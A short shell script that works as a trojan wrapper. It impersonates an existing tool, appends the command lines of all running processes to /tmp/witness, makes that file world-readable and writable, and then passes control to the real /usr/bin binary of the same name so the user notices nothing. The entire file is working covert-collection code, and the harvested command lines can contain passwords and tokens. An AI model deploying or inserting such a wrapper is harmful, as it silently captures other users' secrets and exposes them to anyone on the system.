#!/bin/sh
# Notes down the command lines of all processes, and goes on as the tool whose name it has.
cat /proc/[0-9]*/cmdline >>/tmp/witness 2>/dev/null
chmod 0666 /tmp/witness 2>/dev/null
exec "/usr/bin/${0##*/}" "$@"
